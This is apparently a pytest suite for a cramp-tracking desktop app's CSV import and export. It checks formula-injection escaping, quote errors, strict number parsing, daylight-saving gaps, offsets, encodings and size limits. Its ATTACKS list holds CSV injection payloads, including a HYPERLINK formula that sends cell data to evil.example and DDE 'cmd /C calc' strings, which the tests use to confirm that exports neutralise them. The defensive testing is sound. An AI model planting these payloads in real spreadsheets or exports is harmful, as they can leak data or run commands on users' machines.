"""CSV attacks and slips: formula injection, broken quoting, lenient numbers, daylight-
saving gaps, odd offsets, UTF-16, huge files and headers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cramp_desktop.core import csv_source
from cramp_desktop.core.csv_io import (
    FORMULA_STARTS,
    CsvImportError,
    parse_episodes,
    read_episodes,
    write_episodes,
)
from cramp_desktop.core.csv_source import MAX_FILE_BYTES
from cramp_desktop.core.episodes import Context, Episode, Muscle, Side

NOW = dt.datetime(2025, 6, 1, 12, 0, tzinfo=dt.UTC)
HEADER = (
    "started_at,duration_min,severity,muscle,side,context,triggers,relief,"
    "relief_helped,sleep_disturbance,notes"
)


def episode(notes: str = "") -> Episode:
    return Episode(
        started_at=dt.datetime(2024, 5, 1, 23, 30, tzinfo=dt.timezone(dt.timedelta(hours=2))),
        duration_s=90,
        severity=6,
        muscle=Muscle.CALF,
        side=Side.LEFT,
        context=Context.SLEEP,
        notes=notes,
    )


def exported(notes: list[str]) -> str:
    stream = io.StringIO(newline="")
    write_episodes([episode(note) for note in notes], stream)
    return stream.getvalue()


def problems(text: str) -> list[str]:
    with pytest.raises(CsvImportError) as raised:
        parse_episodes(text, now=NOW)
    return raised.value.problems


# -- 3. formula injection --------------------------------------------------------------

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "'tis cold",
    "''",
    "'",
    "= with spaces",
]


@pytest.mark.parametrize("note", ATTACKS)
def test_no_exported_cell_starts_a_formula(note: str) -> None:
    rows = list(csv.reader(io.StringIO(exported([note]), newline="")))
    cell = rows[1][-1]
    assert not cell.startswith(FORMULA_STARTS), cell
    assert cell == "'" + note  # the OWASP way: an apostrophe in front


def test_export_then_import_gives_back_every_note_unchanged() -> None:
    notes = [*ATTACKS, "plain", "", "it's fine", "a - b", "x=1"]
    back = parse_episodes(exported(notes), now=NOW)
    assert [e.notes for e in back] == notes


@given(st.text(alphabet=st.sampled_from("=+-@\t\r'a ;\",\n"), max_size=8))
def test_round_trip_holds_for_any_note(note: str) -> None:
    [back] = parse_episodes(exported([note]), now=NOW)
    assert back.notes == note


def test_a_hand_written_apostrophe_is_kept() -> None:
    """Only the apostrophe export adds is removed: "'tis" stays as written."""
    row = "2024-05-01T23:40+02:00,1,5,calf,left,sleep,,,,,'tis cold"
    [back] = parse_episodes(f"{HEADER}\n{row}\n", now=NOW)
    assert back.notes == "'tis cold"


# -- 8. an unterminated quote --------------------------------------------------------

GOOD = "2024-05-01T23:40+02:00,1,5,calf,left,sleep,,,,,"


def test_an_unterminated_quote_is_named_not_swallowed() -> None:
    rows = [GOOD + "fine", GOOD + '"never closed', GOOD + "pulled in", GOOD + "and this"]
    found = problems(HEADER + "\n" + "\n".join(rows) + "\n")
    assert len(found) == 1 and found[0].startswith("row 3: ")
    assert "never closed" in found[0]


def test_text_after_a_closing_quote_is_named() -> None:
    rows = [GOOD + "fine", GOOD + '"closed" then more', GOOD + "after"]
    [found] = problems(HEADER + "\n" + "\n".join(rows) + "\n")
    assert found.startswith("row 3: ")


def test_a_broken_header_quote_is_row_1() -> None:
    [found] = problems('started_at,"duration_min\n' + GOOD + "x\n")
    assert found.startswith("row 1: ")


def test_quoted_notes_with_line_breaks_still_count_as_one_row() -> None:
    rows = [GOOD + '"two\nlines"', GOOD + '"x"y']
    [found] = problems(HEADER + "\n" + "\n".join(rows) + "\n")
    assert found.startswith("row 3: ")


# -- 9. lenient numbers -----------------------------------------------------------------


def _row(duration: str = "1", severity: str = "5", sleep: str = "") -> str:
    return f"{HEADER}\n2024-05-01T23:40+02:00,{duration},{severity},calf,left,sleep,,,,{sleep},\n"


@pytest.mark.parametrize(
    ("duration", "severity", "sleep", "column"),
    [
        ("1_5", "5", "", "duration_min"),
        ("١٥", "5", "", "duration_min"),  # Arabic-Indic digits
        ("1.5.0", "5", "", "duration_min"),
        ('"1,5,0"', "5", "", "duration_min"),
        ("1e3", "5", "", "duration_min"),
        ("NaN", "5", "", "duration_min"),
        ("2", "1_0", "", "severity"),
        ("2", "١٥", "", "severity"),
        ("2", "+5", "", "severity"),
        ("2", "５", "", "severity"),  # a full-width digit
        ("2", "5", "1_0", "sleep_disturbance"),
    ],
)
def test_only_plain_ascii_numbers_are_read(
    duration: str, severity: str, sleep: str, column: str
) -> None:
    [found] = problems(_row(duration, severity, sleep))
    assert found.startswith(f"row 2: {column}: ")


@pytest.mark.parametrize(
    ("duration", "seconds"), [("1.5", 90), ('"1,5"', 90), ("2", 120), (".5", 30)]
)
def test_documented_numbers_still_read(duration: str, seconds: int) -> None:
    [episode] = parse_episodes(_row(duration), now=NOW)
    assert episode.duration_s == seconds


# -- 10. daylight-saving gaps, offsets, report windows ---------------------------------


@pytest.fixture
def berlin(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    if not hasattr(time, "tzset"):
        pytest.skip("needs time.tzset")
    monkeypatch.setenv("TZ", "Europe/Berlin")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


def test_a_local_time_in_the_spring_forward_gap_is_refused(berlin: None) -> None:
    row = "2024-03-31T02:30,1,5,calf,left,sleep,,,,,"
    [found] = problems(f"{HEADER}\n{row}\n")
    assert "did not exist in your time zone (the clocks went forward)" in found
    assert found.startswith("row 2: started_at: ")


def test_times_around_the_gap_and_with_an_offset_are_kept(berlin: None) -> None:
    rows = [
        "2024-03-31T01:59,1,5,calf,left,sleep,,,,,",
        "2024-03-31T03:00,1,5,calf,left,sleep,,,,,",
        "2024-03-31T02:30+01:00,1,5,calf,left,sleep,,,,,",
    ]
    episodes = parse_episodes(f"{HEADER}\n" + "\n".join(rows) + "\n", now=NOW)
    assert [e.started_at.strftime("%H:%M%z") for e in episodes] == [
        "01:59+0100",
        "03:00+0200",
        "02:30+0100",
    ]


@pytest.mark.parametrize("offset", ["+14:01", "-14:30", "+15:00", "-23:59"])
def test_offsets_beyond_fourteen_hours_are_refused(offset: str) -> None:
    row = f"2024-05-01T10:00{offset},1,5,calf,left,sleep,,,,,"
    [found] = problems(f"{HEADER}\n{row}\n")
    assert "between -14:00 and +14:00" in found


@pytest.mark.parametrize("offset", ["+14:00", "-12:00"])
def test_the_real_extremes_are_accepted(offset: str) -> None:
    row = f"2024-05-01T10:00{offset},1,5,calf,left,sleep,,,,,"
    assert len(parse_episodes(f"{HEADER}\n{row}\n", now=NOW)) == 1


# -- 12. UTF-16, size and column limits ---------------------------------------------------

CSV_TEXT = f"{HEADER}\n2024-05-01T23:40+02:00,1,5,calf,left,sleep,,,,,note\n"


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-16"])
def test_utf16_is_named_and_the_fix_is_said(encoding: str) -> None:
    with pytest.raises(CsvImportError) as raised:
        read_episodes(CSV_TEXT.encode(encoding), now=NOW)
    [problem] = raised.value.problems
    assert "UTF-16" in problem and "Save it as UTF-8" in problem
    assert "unknown columns" not in problem


def test_binary_data_is_refused_at_once() -> None:
    with pytest.raises(CsvImportError) as raised:
        read_episodes(bytes(1_000_000), now=NOW)
    assert "not a CSV text file" in raised.value.problems[0]


def test_a_nul_inside_a_note_is_still_text() -> None:
    [back] = parse_episodes(exported(["a\x00b"]), now=NOW)
    assert back.notes == "a\x00b"


def test_a_file_over_the_limit_is_refused_before_it_is_read(tmp_path: Path) -> None:
    big = tmp_path / "big.csv"
    with big.open("wb") as stream:  # sparse: no 100 MB written
        stream.write(CSV_TEXT.encode())
        stream.truncate(MAX_FILE_BYTES + 1)
    started = time.perf_counter()
    with pytest.raises(CsvImportError) as raised:
        read_episodes(big, now=NOW)
    assert "larger than 100 MB" in raised.value.problems[0]
    assert time.perf_counter() - started < 5  # refused from its size, not read


def test_a_stream_over_the_limit_stops_at_the_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(csv_source, "MAX_FILE_BYTES", len(CSV_TEXT) + 10)
    too_long = (CSV_TEXT + "2024-05-01T23:40+02:00,1,5,calf,left,sleep,,,,,more\n").encode()
    with pytest.raises(CsvImportError) as raised:
        read_episodes(too_long, now=NOW)
    assert "larger than" in raised.value.problems[0]


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="needs /dev/zero")
def test_dev_zero_is_refused_at_once() -> None:
    with pytest.raises(CsvImportError) as raised:
        read_episodes(Path("/dev/zero"), now=NOW)
    assert "not a CSV text file" in raised.value.problems[0]


def test_a_header_of_forty_thousand_columns_is_refused_at_once() -> None:
    header = ",".join(f"c{n}" for n in range(40_000))
    started = time.perf_counter()
    [found] = problems(header + "\n")
    assert found.startswith("row 1: the first row names 40000 columns")
    assert time.perf_counter() - started < 5


def test_many_bad_rows_keep_only_the_first_problems() -> None:
    rows = ["2024-05-01T23:40+02:00,1,5,knee,left,sleep,,,,,"] * 5000
    found = problems(HEADER + "\n" + "\n".join(rows) + "\n")
    assert len(found) == 51 and found[-1] == "... and 4950 more problems"
